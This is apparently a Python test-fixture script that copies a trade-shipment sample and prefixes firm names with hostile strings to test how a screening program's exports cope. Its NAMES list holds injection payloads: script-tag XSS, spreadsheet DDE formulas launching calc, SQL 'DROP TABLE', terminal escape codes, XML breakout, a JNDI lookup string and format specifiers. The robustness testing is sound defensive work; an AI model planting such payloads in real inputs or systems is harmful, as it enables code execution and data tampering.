"""Writes a copy of the sample in which the firms of the first alerts bear names as hostile as they come.

usage: hostile.py PROGRAM SAMPLE OUT
"""

import csv
import json
import pathlib
import subprocess
import sys
import tempfile

import polars

# What a spreadsheet, a page, a terminal, an XML reader, a JSON reader or a line splitter could trip over.
NAMES = [
    "<script>document.title='run';alert(1)</script><img src=x onerror=alert(2)>",
    "=cmd|'/c calc'!A1",
    '+HYPERLINK("http://example.invalid","x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A1",
    "\ttab first",
    "\rcarriage return first",
    "Tide \u202egnidarT elpmaxE\u202c",
    "two\nlines\r\nand more",
    "]]></data><node id=\"evil\"/>&amp;&lt;!--",
    'quotes " and \' and `tick` \\ back',
    "'; DROP TABLE alerts; --",
    "\x1b[2J\x1b]0;owned\x07",
    "{{7*7}} ${jndi:ldap://example.invalid/a} %s %n",
    "| a | b |\n|---|---|\n# heading [x](javascript:alert(3))",
    "\u2028separator\u2029 \u0085 \ufeff",
]


def main(program, sample, out):
    sample, out = pathlib.Path(sample), pathlib.Path(out)
    out.mkdir()
    with tempfile.TemporaryDirectory() as folder:
        run = pathlib.Path(folder) / "run"
        tables = [f"--{t}={sample / t}.csv" for t in ("parties", "ownership", "watchlist")]
        subprocess.run([program, "scan", sample / "shipments.csv", *tables, "-q", "--out", run], check=True)
        lines = subprocess.run(
            [program, "export", run, "--format", "jsonl"], check=True, capture_output=True, text=True
        ).stdout.splitlines()
        names = dict(polars.read_parquet(run / "entities.parquet", columns=["id", "names"]).iter_rows())
    alerts = [json.loads(line) for line in lines]
    firms = list(dict.fromkeys(entity["id"] for alert in alerts for entity in alert["chain"]))
    assert len(firms) >= len(NAMES), "the sample has too few firms on its alerts"
    # The hostile part goes first, where a spreadsheet looks; the firm's own name follows, so that it is still one firm,
    # however it is spelt.
    new = {}
    for firm, bad in zip(firms, NAMES):
        for name in json.loads(names[firm]):
            new[name] = f"{bad} {name}"
    # One alert's shipments come as JSON lines; one of them holds half a surrogate pair, which no text can: that row is
    # rejected and counted, the others are used.
    apart = {row["record_id"] for leg in alerts[5]["shipments"] for row in leg}
    for name in ("shipments", "parties", "ownership", "watchlist"):
        with open(sample / f"{name}.csv", newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        changed = [{k: new.get(v, v) for k, v in row.items()} for row in rows]
        if name == "shipments":
            with open(out / "more.ndjson", "w", encoding="ascii") as file:
                for row in changed:
                    if row.get("record_id") in apart:
                        row = {k: v for k, v in row.items() if v}
                        half = "\ud800half " if apart and row["record_id"] == max(apart) else ""
                        row["description"] = half + row.get("description", "") + "\u0085 =1+1"
                        file.write(json.dumps(row) + "\n")
            changed = [row for row in changed if row.get("record_id") not in apart]
        with open(out / f"{name}.csv", "w", newline="", encoding="utf-8") as file:
            writer = csv.DictWriter(file, fieldnames=rows[0].keys())
            writer.writeheader()
            writer.writerows(changed)


if __name__ == "__main__":
    main(*sys.argv[1:])
